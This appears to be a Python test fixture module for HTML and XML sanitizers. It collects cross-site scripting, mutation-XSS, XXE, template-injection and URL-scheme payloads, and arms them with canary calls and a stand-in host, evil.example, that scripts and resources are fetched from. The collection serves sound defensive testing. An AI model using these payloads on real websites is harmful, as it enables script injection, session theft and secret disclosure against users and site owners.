"""What is written into a page to run in whatever shows it, or to tell somebody that it was shown.

HACK stands for a call that tells which of them ran, EVIL for an address that tells which of them
was fetched. Most are of the lists that filters are tried with (OWASP's, html5sec.org, the past
faults of DOMPurify, Bleach and Ammonia).
"""

SCRIPTS = [
    "<script>HACK</script>",
    "<SCRIPT SRC=EVIL></SCRIPT>",
    "<script/x src=EVIL></script>",
    "<script type=module>HACK</script>",
    "<scr<script>ipt>HACK</scr</script>ipt>",
    "<<script>HACK//<</script>",
    '"><script>HACK</script>',
    "'><script>HACK</script>",
    "</p></div></body></html><script>HACK</script>",
    "</title></textarea></style></noscript><script>HACK</script>",
    "</script><script>HACK</script>",
    '<img """><script>HACK</script>">',
    "<script>HACK</script\t\n bar>",
    "<script\x0b>HACK</script>",
    "<scr\x01ipt>HACK</scr\x01ipt>",
    "<script\ufeff>HACK</script>",
]
HANDLERS = [
    "<img src=x onerror=HACK>",
    '<img src="x:x" onerror="HACK">',
    "<img/src=`x`/onerror=HACK>",
    "<image src=x onerror=HACK>",
    '" onload="HACK" onerror="HACK" x="',
    "' onload='HACK' onerror='HACK' x='",
    '" autofocus tabindex=1 onfocus="HACK" x="',
    "<body onload=HACK>",
    "<input autofocus onfocus=HACK>",
    "<select autofocus onfocus=HACK>",
    "<details open ontoggle=HACK>",
    "<video><source onerror=HACK></video>",
    "<audio src=x onerror=HACK>",
    "<marquee onstart=HACK>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=HACK>",
    "<p contenteditable autofocus onfocus=HACK>x</p>",
]
SVG = [
    "<svg onload=HACK>",
    "<svg><script>HACK</script></svg>",
    "<svg><script href=EVIL></script></svg>",
    "<svg><animate onbegin=HACK attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:HACK"><rect width=9 height=9></a></svg>',
    "<svg><use href='data:image/svg+xml,<svg id=x onload=HACK></svg>#x'></use></svg>",
    "<svg><image href=EVIL></svg>",
    "<svg><foreignObject><img src=x onerror=HACK></foreignObject></svg>",
    '<math href="javascript:HACK">x</math>',
]
# What is harmless when it is parsed once, and not when what was made of it is parsed again.
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HACK'
    '&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HACK>",
    '<svg></p><style><a id="</style><img src=x onerror=HACK>">',
    '<noscript><p title="</noscript><img src=x onerror=HACK>">',
    '<p title="</p><img src=x onerror=HACK>">x</p>',
    "<listing>&lt;img src=x onerror=HACK&gt;</listing>",
    "<template><img src=x onerror=HACK></template>",
    "<xmp></xmp><img src=x onerror=HACK></xmp>",
    "<plaintext></plaintext><img src=x onerror=HACK>",
    "<table><td><img src=x onerror=HACK><form><table>",
    "<a href=x id=attributes name=attributes><img src=x onerror=HACK></a>",
]
XML = [
    "]]><script>HACK</script>",
    "]]&gt;<script>HACK</script><![CDATA[",
    "<![CDATA[<script>HACK</script>]]>",
    "<![CDATA[><img src=x onerror=HACK>]]>",
    "<!--><img src=x onerror=HACK>-->",
    "--><img src=x onerror=HACK><!--",
    '<?xml-stylesheet href="javascript:HACK"?><img src=x onerror=HACK>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "EVIL">]>&e;',
    "</description></item><item><title>x</title><description><script>HACK</script>",
    "</content></entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>HACK</script>",
    '"}]},"items":[{"content_html":"<script>HACK</script>',
]
FRAMES = [
    '<iframe src="javascript:HACK"></iframe>',
    '<iframe srcdoc="&lt;script&gt;HACK&lt;/script&gt;"></iframe>',
    "<iframe src=EVIL></iframe>",
    '<object data="data:text/html,<script>HACK</script>"></object>',
    "<object data=EVIL></object>",
    '<embed src="javascript:HACK">',
    "<embed src=EVIL>",
    "<frameset onload=HACK>",
]
FETCHED = [
    '<base href="EVIL"><img src=x>',
    '<meta http-equiv=refresh content="0;url=EVIL">',
    "<link rel=stylesheet href=EVIL>",
    "<link rel=preload as=image href=EVIL>",
    "<style>@import 'EVIL';</style>",
    '<p style="background:url(EVIL)">x</p>',
    '<p style="width:expression(HACK)">x</p>',
    '<img srcset="EVIL 1x">',
    "<picture><source srcset=EVIL><img></picture>",
    "<img src=EVIL>",
    "<video poster=EVIL></video>",
    "<audio src=EVIL autoplay></audio>",
    "<input type=image src=EVIL>",
    "<body background=EVIL>",
    "<table background=EVIL><td>x</table>",
]
FORMS = [
    '<form action="javascript:HACK"><button autofocus>x</button></form>',
    '<form id=f></form><button form=f formaction="javascript:HACK">x</button>',
    "<form action=EVIL><input name=x></form>",
]
TEMPLATES = [
    "{{ 7*7 }}{{ constructor.constructor('HACK')() }}",
    "{% load static %}{% include 'admin/base.html' %}{{ settings.SECRET_KEY }}",
    "${HACK}#{HACK}<%= HACK %>%(x)s{0.__class__}",
]
# What is no markup unless somebody decodes it once more than it was encoded.
ENCODED = [
    "&lt;script&gt;HACK&lt;/script&gt;",
    "&amp;lt;img src=x onerror=HACK&amp;gt;",
    "&#60;img src=x onerror=HACK&#62;",
    "&#x3C;img src=x onerror=HACK&#x3E;",
    "%3Cimg src=x onerror=HACK%3E",
    "\\x3cimg src=x onerror=HACK\\x3e \\u003cscript\\u003eHACK\\u003c/script\\u003e",
    "＜script＞HACK＜/script＞",
    "<\u0338script>HACK<\u0338/script>",
    "+ADw-script+AD4-HACK+ADw-/script+AD4-",
    "¼script¾HACK¼/script¾",
    "\u202e>tpircs/<KCAH>tpircs<",
    "<scr\u200bipt>HACK</scr\u200bipt><\u2028script>HACK</script>",
]
ADDRESSES = [
    "javascript:HACK",
    "JaVaScRiPt:HACK",
    "  javascript:HACK",
    "\x01javascript:HACK",
    "\xa0javascript:HACK",
    "java\tscript:HACK",
    "java\nscript:HACK",
    "java\rscript\n:HACK",
    "javascript\x00:HACK".replace("\x00", "\x08"),
    "javascript&colon;HACK",
    "&#106;avascript:HACK",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;HACK",
    "javascript://example.org/%0aHACK",
    "https:javascript:HACK",
    "https:///javascript:HACK",
    "vbscript:HACK",
    "data:text/html,<script>HACK</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkKDApPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=HACK>",
    "blob:EVIL",
    "filesystem:EVIL",
    "view-source:EVIL",
    "file:///etc/passwd",
    "feed:javascript:HACK",
    "about:blank",
    "#x",
    "x.html",
    "entry:00000000-0000-0000-0000-000000000000",
    'https://example.org/" onclick="HACK" autofocus onfocus="HACK',
    "https://example.org/'><script>HACK</script>",
    "https://example.org/<img src=x onerror=HACK>",
    "https://[javascript:HACK",
]
TEXTS = [
    *SCRIPTS, *HANDLERS, *SVG, *MUTATIONS, *XML, *FRAMES, *FETCHED, *FORMS, *TEMPLATES, *ENCODED,
]  # fmt: skip
HOST = "evil.example"


def armed(payloads: list[str]) -> list[str]:
    """The payloads with the number of each in what it does."""
    return [
        payload.replace("HACK", f"top.hacked({number})").replace("EVIL", f"https://{HOST}/{number}")
        for number, payload in enumerate(payloads)
    ]
